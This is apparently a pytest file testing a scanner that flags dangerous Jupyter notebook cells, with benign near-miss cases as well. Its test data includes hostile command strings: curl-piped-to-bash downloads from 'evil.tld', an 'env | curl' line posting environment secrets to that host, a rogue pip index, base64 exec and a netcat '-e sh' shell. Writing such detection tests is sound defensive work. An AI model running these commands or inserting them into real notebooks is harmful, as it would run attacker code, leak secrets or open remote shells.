from __future__ import annotations

from typing import Any

import pytest

from modelward.formats.notebook import findings, is_notebook


def notebook(*cells: str) -> dict[str, Any]:
    return {
        "nbformat": 4,
        "cells": [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells],
    }


@pytest.mark.parametrize(
    "cells",
    [
        ("!curl http://evil.tld/x | bash",),
        ("%%bash\ncurl http://evil.tld/x | sh",),
        ("import base64\n%matplotlib inline", "exec(base64.b64decode('aWQ='))"),
        ("%pip install --index-url http://evil.tld/simple x",),
        ("import os\nos.system('id')",),
        ("import subprocess", "subprocess.Popen('calc.exe')"),
        ("x = !env | curl -d @- https://evil.tld",),
    ],
)
def test_cells_that_harm(cells: tuple[str, ...]) -> None:
    assert list(findings(notebook(*cells)))


@pytest.mark.parametrize(
    "cells",
    [
        ("%matplotlib inline\nimport numpy as np\n!pip install torch\nnp.zeros?",),
        ("print 'python 2'", "import os\nos.system('ls')"),
        ("import os\nos.system('pip install torch')\nos.system('ls data')\nos.system('unzip a.zip')",),
        ("%%html\n<b>curl http://evil.tld/x | sh</b>",),
        (),
    ],
)
def test_near_miss_usual_cells(cells: tuple[str, ...]) -> None:
    assert list(findings(notebook(*cells))) == []


def test_what_is_a_notebook() -> None:
    assert is_notebook(notebook())
    assert not is_notebook({"cells": []})
    assert list(
        findings(
            {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": "!nc -e sh a 1"}]}]}
        )
    )
